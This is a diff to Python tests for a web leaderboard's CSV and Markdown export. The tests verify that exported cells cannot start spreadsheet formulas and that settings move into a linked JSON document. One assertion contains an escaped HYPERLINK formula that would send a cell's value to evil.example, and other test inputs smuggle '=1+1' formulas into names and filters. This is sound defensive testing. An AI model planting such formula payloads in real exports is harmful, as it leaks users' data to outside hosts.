@@ -193,9 +193,7 @@ def is_number(text: str) -> bool:
 
 
 def test_csv_cells_never_start_a_formula_header_included(formula_world):
-    lines = export(formula_world, "csv").splitlines()
-    assert lines[0].startswith("# ")  # the settings, as a comment
-    cells = [cell for row in csv.reader(io.StringIO("\n".join(lines[1:]))) for cell in row]
+    cells = [cell for row in csv.reader(io.StringIO(export(formula_world, "csv"))) for cell in row]
     assert '\'=HYPERLINK("http://evil.example/?"&A1,"click")' in cells
     assert [cell for cell in cells if cell.startswith(FORMULA_PREFIXES) and not is_number(cell)] == []
 
@@ -242,17 +240,16 @@ def test_markdown_cells_cannot_break_the_table_or_carry_html(world, name):
     assert "[x](" not in text  # no link
 
 
-def test_the_csv_comment_line_never_puts_a_name_or_filter_at_the_start_of_a_cell(formula_world):
+def test_the_settings_of_a_csv_keep_names_and_filters_as_data(formula_world):
+    """The settings left the CSV for a `Link`ed JSON document, where a name or a filter is a JSON string."""
     formula_world.board.name = "Main;=1+1"
     formula_world.board.save()
     url = reverse("rankings:leaderboard", args=[formula_world.board.slug])
-    response = site_client("anonymous").get(url, {"_export": "csv", "q": "x,=1+1 ,+2"})
-    comment = response.content.decode().splitlines()[0]
-    # Spreadsheets split on commas (or, in some locales, semicolons) and some trim the spaces around cells.
-    for delimiter in (",", ";"):
-        cells = [cell.strip() for row in csv.reader([comment], delimiter=delimiter) for cell in row]
-        assert [cell for cell in cells if cell.startswith(FORMULA_PREFIXES)] == []
-    settings = json.loads(comment.removeprefix("# "))
+    client = site_client("anonymous")
+    response = client.get(url, {"_export": "csv", "q": "x,=1+1 ,+2"})
+    assert "=1+1" not in response.content.decode()
+    settings_url = response["Link"].split(">")[0].removeprefix("<")
+    settings = json.loads(client.get(settings_url).content)
     assert (settings["leaderboard"], settings["filters"]["q"]) == ("Main;=1+1", "x,=1+1 ,+2")
 
 
